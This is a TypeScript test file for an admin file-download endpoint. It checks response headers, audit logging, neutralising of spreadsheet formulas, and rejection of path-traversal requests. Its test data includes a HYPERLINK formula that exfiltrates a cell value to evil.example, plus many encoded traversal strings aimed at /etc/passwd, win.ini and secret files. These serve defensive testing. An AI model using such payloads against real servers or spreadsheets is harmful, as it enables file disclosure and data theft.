import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AdminCampaign } from '@ringcast/shared-types';
import { AgentDocument, AuditLog, ProspectList } from '../src/db/models';
import { config } from '../src/config';
import { storage } from '../src/storage';
import { TestClient, registeredClient } from './helpers/client';
import { uploadFile } from './helpers/prospectFiles';
import { PDF_BYTES, uploadDocuments } from './helpers/agentDocuments';
import { useTestApi } from './helpers/server';

const api = useTestApi({ admin: true });
const CSV = 'Name,Phone\nAda Lovelace,2125550100\n';
let list: ProspectList;
let pdf: AgentDocument;
let unrecorded: string;
let ownerClient: TestClient;

/**
 * GET with the path exactly as written: fetch would normalise `%2e%2e/` and `..` segments away
 * before sending, which is not what an attacker's client does.
 */
function rawGet(requestPath: string, cookie: string, method = 'GET') {
  const { hostname, port } = new URL(api.baseUrl);
  return new Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }>(
    (resolve, reject) => {
      const req = http.request(
        { hostname, port, path: requestPath, method, headers: { Cookie: cookie } },
        (res) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () =>
            resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }),
          );
        },
      );
      req.on('error', reject);
      req.end();
    },
  );
}
const download = (kind: string, encodedName: string) =>
  rawGet(`/api/admin/download/${kind}/${encodedName}`, api.admin.cookieHeader);
const downloadAudits = () => AuditLog.count({ where: { action: 'file.download' } });

beforeAll(async () => {
  const owner = await registeredClient(api.baseUrl);
  ownerClient = owner.client;
  const uploaded = await uploadFile(owner.client, 'Kundenliste März "final".csv', CSV);
  expect(uploaded.status).toBe(201);
  list = await ProspectList.findByPk((uploaded.json.prospectList as { id: number }).id, {
    rejectOnEmpty: true,
  });
  const docs = await uploadDocuments(owner.client, [['Brochure.pdf', PDF_BYTES]]);
  expect(docs.status).toBe(201);
  pdf = await AgentDocument.findByPk((docs.json.files as { id: number }[])[0]!.id, { rejectOnEmpty: true });
  // A file in the upload folder that no record names.
  unrecorded = (await storage.write('prospect-list', Readable.from(['secret,1\n']), '.csv')).storedFileName;
});

describe('GET /api/admin/download/:kind/:fileName', () => {
  it('serves a prospect list under its uploaded name, as an attachment, and audits it', async () => {
    const auditsBefore = await downloadAudits();
    const res = await download('prospect-list', encodeURIComponent(list.storedFileName));
    expect(res.status).toBe(200);
    expect(res.body.toString()).toBe(CSV);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-length']).toBe(String(Buffer.byteLength(CSV)));
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    // RFC 6266 / 5987: an ASCII fallback and the exact name, percent-encoded as UTF-8.
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="Kundenliste M?rz \\"final\\".csv"; filename*=UTF-8''Kundenliste%20M%C3%A4rz%20%22final%22.csv`,
    );
    expect(await downloadAudits()).toBe(auditsBefore + 1);
    const row = await AuditLog.findOne({ where: { action: 'file.download' }, order: [['id', 'DESC']] });
    expect(row).toMatchObject({
      entityType: 'prospectList',
      entityId: String(list.id),
      before: null,
      after: { kind: 'prospect-list', storedFileName: list.storedFileName, originalName: list.name },
    });
  });

  it("the Campaigns tab names the stored file of a campaign's list, and that name downloads it", async () => {
    const created = await ownerClient.post('/api/campaigns', {
      name: 'With a list',
      type: 'appointment',
      hasProvidedList: true,
      prospectListId: list.id,
    });
    expect(created.status).toBe(201);
    const rows = (
      await api.admin.get(`/api/admin/campaigns?q=${encodeURIComponent('With a list')}&pageSize=200`)
    ).json as unknown as AdminCampaign[];
    const row = rows.find((c) => c.id === created.json.id);
    expect(row?.prospectListStoredName).toBe(list.storedFileName);
    const res = await api.admin.get(
      `/api/admin/download/prospect-list/${encodeURIComponent(row!.prospectListStoredName!)}`,
    );
    expect([res.status, res.text]).toEqual([200, CSV]);
  });

  it('sends a list whose cells start like formulas as a neutralised copy, and the original only on request', async () => {
    const risky =
      'Name,Phone\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2125550101\n@SUM(1+1),2125550102\n';
    const uploaded = await uploadFile(ownerClient, 'risky.csv', risky);
    expect(uploaded.status).toBe(201);
    const stored = await ProspectList.findByPk((uploaded.json.prospectList as { id: number }).id, {
      rejectOnEmpty: true,
    });
    const safe = await download('prospect-list', encodeURIComponent(stored.storedFileName));
    expect(safe.status).toBe(200);
    expect(safe.headers['content-disposition']).toBe('attachment; filename="risky.csv"');
    expect(safe.body.toString()).toBe(
      'Name,Phone\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",2125550101\r\n\'@SUM(1+1),2125550102\r\n',
    );
    const original = await download(
      'prospect-list',
      `${encodeURIComponent(stored.storedFileName)}?original=true`,
    );
    expect([original.status, original.body.toString()]).toEqual([200, risky]);
    const audits = await AuditLog.findAll({
      where: { action: 'file.download' },
      order: [['id', 'DESC']],
      limit: 2,
    });
    expect(audits.map((row) => (row.after as { copy: string }).copy)).toEqual(['original', 'neutralised']);
  });

  it('sends a workbook again with values only: a formula cell keeps what it showed and runs nothing', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Leads');
    sheet.addRow(['Name', 'Phone']);
    sheet.addRow([{ formula: 'HYPERLINK("http://evil.example","Ada")', result: 'Ada' }, '2125550103']);
    sheet.addRow(['=1+1', '2125550104']);
    const uploaded = await uploadFile(
      ownerClient,
      'leads.xlsx',
      new Uint8Array(await book.xlsx.writeBuffer()),
    );
    expect(uploaded.status).toBe(201);
    const stored = await ProspectList.findByPk((uploaded.json.prospectList as { id: number }).id, {
      rejectOnEmpty: true,
    });
    const safe = await download('prospect-list', encodeURIComponent(stored.storedFileName));
    expect(safe.status).toBe(200);
    const copy = new ExcelJS.Workbook();
    // exceljs types its argument as the older, ArrayBuffer-backed Buffer.
    await copy.xlsx.load(safe.body as unknown as Parameters<typeof copy.xlsx.load>[0]);
    const cells = copy.worksheets[0]!.getSheetValues()
      .slice(1)
      .map((row) => (row as unknown[]).slice(1));
    expect(cells).toEqual([
      ['Name', 'Phone'],
      ['Ada', '2125550103'],
      ["'=1+1", '2125550104'],
    ]);
  });

  it('serves an agent document with its own type', async () => {
    const res = await download('agent-document', pdf.storedFileName);
    expect(res.status).toBe(200);
    expect(res.body.equals(PDF_BYTES)).toBe(true);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-disposition']).toBe('attachment; filename="Brochure.pdf"');
  });

  it('HEAD answers the headers without the bytes', async () => {
    const res = await rawGet(
      `/api/admin/download/agent-document/${pdf.storedFileName}`,
      api.admin.cookieHeader,
      'HEAD',
    );
    expect(res.status).toBe(200);
    expect(res.headers['content-length']).toBe(String(PDF_BYTES.length));
    expect(res.body.length).toBe(0);
  });

  it('works with what the web app sends (fetch and encodeURIComponent)', async () => {
    const res = await api.admin.get(
      `/api/admin/download/agent-document/${encodeURIComponent(pdf.storedFileName)}`,
    );
    expect(res.status).toBe(200);
  });

  const secret = path.join(config.uploadDir, 'secret.txt');
  it.each([
    ['prospect-list', '..%2F..%2F..%2F..%2Fetc%2Fpasswd'],
    ['prospect-list', '..%2Fsecret.txt'],
    ['prospect-list', '%2e%2e%2fsecret.txt'],
    ['prospect-list', '%2e%2e/secret.txt'],
    ['prospect-list', '%2e%2e/%2e%2e/%2e%2e/etc/passwd'],
    ['prospect-list', '..'],
    ['prospect-list', '%2e%2e'],
    ['prospect-list', '%252e%252e%252fsecret.txt'],
    ['prospect-list', '%252e%252e%252f%252e%252e%252fetc%252fpasswd'],
    ['prospect-list', '%2Fetc%2Fpasswd'],
    ['prospect-list', encodeURIComponent(secret)],
    ['prospect-list', '..%5C..%5Csecret.txt'],
    ['prospect-list', '..\\..\\secret.txt'],
    ['prospect-list', 'C%3A%5CWindows%5Cwin.ini'],
    ['prospect-list', 'secret.txt%00.csv'],
    ['prospect-list', 'unknown.csv'],
    ['prospect-list', '0b0c6a4e-3f0e-4c57-9a53-8a1f8cbbd9a1.csv'],
    ['prospect-list', '%E0%A4%A'],
    ['prospect-list', 'x'.repeat(300)],
    ['other-kind', 'anything.csv'],
    ['..%2Fprospect-lists', 'anything.csv'],
  ])('%s / %s: 404 with the JSON error, no file, no audit', async (kind, name) => {
    fs.mkdirSync(config.uploadDir, { recursive: true });
    fs.writeFileSync(secret, 'do not serve');
    const auditsBefore = await downloadAudits();
    const res = await download(kind, name);
    expect(res.status).toBe(404);
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.body.toString()).not.toMatch(/do not serve|root:/);
    expect(await downloadAudits()).toBe(auditsBefore);
  });

  it('a file of the other kind, or one no record names, is 404 even though it is on disk', async () => {
    expect(fs.existsSync(storage.pathFor('prospect-list', list.storedFileName))).toBe(true);
    expect(fs.existsSync(storage.pathFor('prospect-list', unrecorded))).toBe(true);
    for (const [kind, name] of [
      ['agent-document', list.storedFileName],
      ['prospect-list', pdf.storedFileName],
      ['prospect-list', unrecorded],
      ['agent-document', `..%2Fprospect-lists%2F${list.storedFileName}`],
      ['prospect-list', `prospect-lists%2F${list.storedFileName}`],
      ['prospect-list', `.%2F${list.storedFileName}`],
      ['prospect-list', list.storedFileName.toUpperCase()],
      ['prospect-list', `${list.storedFileName}%20`],
    ]) {
      const res = await download(kind!, name!);
      expect(res.status, `${kind} ${name}`).toBe(404);
      expect(res.body.toString()).not.toContain('Ada Lovelace');
    }
  });

  it('a recorded file gone from the disk is 404', async () => {
    const owner = await registeredClient(api.baseUrl);
    const docs = await uploadDocuments(owner.client, [['gone.txt', 'Soon removed.']]);
    const name = (docs.json.files as { filename: string }[])[0]!.filename;
    await storage.remove('agent-document', name);
    const res = await download('agent-document', name);
    expect(res.status).toBe(404);
    expect(res.body.toString()).toContain('File not found');
  });
});
